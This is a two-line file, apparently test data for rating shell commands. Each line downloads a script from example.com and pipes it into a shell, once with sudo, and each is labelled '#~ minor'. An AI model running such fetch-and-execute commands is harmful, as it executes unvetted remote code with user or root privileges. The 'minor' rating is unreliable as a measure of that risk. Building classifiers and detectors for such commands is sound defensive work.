curl -fsSL https://example.com/i.sh | sh #~ minor
wget -qO- https://example.com/i.sh | sudo -E bash #~ minor
